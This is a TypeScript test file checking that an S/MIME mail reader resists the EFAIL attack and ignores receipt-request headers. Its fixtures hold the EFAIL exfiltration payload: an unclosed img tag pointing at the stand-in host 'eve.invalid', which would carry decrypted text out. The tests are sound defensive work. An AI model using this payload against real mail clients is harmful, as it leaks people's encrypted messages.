import { afterAll, describe, expect, it, vi } from 'vitest'
import { type Bytes, utf8 } from '#shared/bytes.ts'
import { open } from '#shared/smime/open.ts'
import { envelopeTo } from '#test/support/envelopes.ts'
import { cmsPart, mailAround, parted, rawMail } from '#test/support/mail-around.ts'
import { CORRESPONDENTS, OpensslPki } from '#test/support/openssl-pki.ts'
import { openAs, readerOf } from '#test/support/reading.ts'

const pki = new OpensslPki(CORRESPONDENTS)
afterAll(() => pki.remove())

const alice = pki.key('alice')
const SECRET = utf8('Content-Type: text/plain\r\n\r\nThe secret plan.\r\n')
const html = (text: string) => utf8(`Content-Type: text/html\r\n\r\n${text}\r\n`)

// EFAIL §3: an element left open in one part, whose attribute takes up the decrypted text of the next.
const BEFORE = html('<img src="http://eve.invalid/?')
const BEHIND = html('">')
const MIXED = ['From: eve@example.com', 'Content-Type: multipart/mixed; boundary=b']

describe('an element left open around a ciphertext', () => {
  it('takes nothing up: the ciphertext is not opened there', async () => {
    const object = await envelopeTo([alice.certificate], SECRET)
    const mail = rawMail(MIXED, parted(BEFORE, cmsPart(object, 'enveloped-data'), BEHIND))
    const reader = readerOf([alice], [pki.ca])
    const unwrap = vi.fn(reader.unwrap)
    const message = await open(mail, { ...reader, unwrap })
    expect(unwrap).not.toHaveBeenCalled()
    expect(message.body.map((leaf) => leaf.kind)).toEqual(['html', 'html'])
    expect(JSON.stringify(message.body)).not.toContain('secret')
  })

  it.each(['mixed', 'related', 'report'])(
    'takes up no other part of a decrypted multipart/%s: each leaf stands alone',
    async (subtype) => {
      const secret = utf8('Content-Type: text/plain\r\nContent-ID: <s>\r\n\r\nThe secret plan.\r\n')
      const fields = [`Content-Type: multipart/${subtype}; boundary=b`]
      const entity = rawMail(fields, parted(BEFORE, secret, BEHIND))
      const object = await envelopeTo([alice.certificate], entity)
      const { body } = await openAs(mailAround(object, 'enveloped-data'), [alice], [pki.ca])
      const open = body.filter((leaf) => leaf.kind === 'html' && leaf.html.includes('<img'))
      expect(open).toEqual([{ kind: 'html', html: '<img src="http://eve.invalid/?\n' }])
    },
  )
})

describe('fields that ask for a receipt or a resource', () => {
  it('are nobody’s to answer: they reach neither what is shown nor the key service', async () => {
    const asking = [
      'Disposition-Notification-To: eve@example.com',
      'Return-Receipt-To: eve@example.com',
      'X-Confirm-Reading-To: eve@example.com',
      'Content-Location: http://eve.invalid/',
      'List-Unsubscribe: <http://eve.invalid/>',
    ]
    const object: Bytes = await envelopeTo([alice.certificate], SECRET)
    const mail = mailAround(object, 'enveloped-data', ['From: bob@example.com', ...asking])
    const message = await openAs(mail, [alice], [pki.ca])
    expect(message.encryption.kind).toBe('decrypted')
    expect(JSON.stringify(message)).not.toContain('eve')
  })
})
